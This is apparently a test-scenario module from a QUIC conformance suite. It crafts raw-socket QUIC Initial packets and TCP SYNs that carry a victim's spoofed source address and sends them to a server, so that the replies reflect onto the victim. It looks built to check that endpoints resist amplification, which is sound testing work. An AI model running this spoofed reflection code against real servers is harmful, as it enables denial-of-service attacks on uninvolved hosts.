"""An attacker that has a server answer a victim: first packets of QUIC and of TCP, with the victim's address.

Both kinds are real: the Initial packets come from an endpoint that begins a connection, and the SYNs ask for
one. Run as `python -m pathproof.conformance.scenarios.engine.amplifier PLAN`.
"""

from __future__ import annotations

import os
import socket
import time

from pathproof.conformance.scenarios.engine.child import Line, Orders, plan, say
from pathproof.conformance.scenarios.engine.packets import syn, udp
from pathproof.reference.connection import Configuration
from pathproof.reference.endpoint import Endpoint
from pathproof.reference.handshake import Settings
from pathproof.reference.hq import ALPN
from pathproof.reference.migration import Address

FIRST_PORT = 40000
APART = 0.01
"""Seconds from one packet to the next."""


def first_datagrams(source: Address, target: Address) -> list[bytes]:
    """What a client sends first, when it believes to be at this source.

    >>> [len(one) for one in first_datagrams(("203.0.113.9", 1), ("10.9.0.2", 4433))]
    [1200]
    """
    configuration = Configuration(Settings((ALPN,), server_name="server", verify=False))
    endpoint = Endpoint(configuration, os.urandom, os.urandom(32))
    endpoint.connect(source, target, 0.0)
    return [out.data for out in endpoint.datagrams(0.0)]


def attack(asked: Line, many: int) -> None:
    """Send so many first packets of each kind, from different ports of the victim."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    host, server = asked["victim"], asked["server"]
    for number in range(many):
        source = (host, FIRST_PORT + number)
        for datagram in first_datagrams(source, (server, asked["quic"])):
            raw.sendto(udp(source, (server, asked["quic"]), datagram), (server, 0))
            say("sent", protocol="udp", payload=len(datagram), bytes=len(datagram) + 28)
        asks = syn(source, (server, asked["tcp"]), 1000 * number)
        raw.sendto(asks, (server, 0))
        say("sent", protocol="tcp", payload=0, bytes=len(asks))
        time.sleep(APART)


def main() -> None:
    """Read the plan, and attack once told to `go`."""
    asked, orders = plan(), Orders()
    say("ready")
    while not orders.is_over:
        for order in orders.take():
            attack(asked, order["many"])
        time.sleep(APART)


if __name__ == "__main__":
    main()
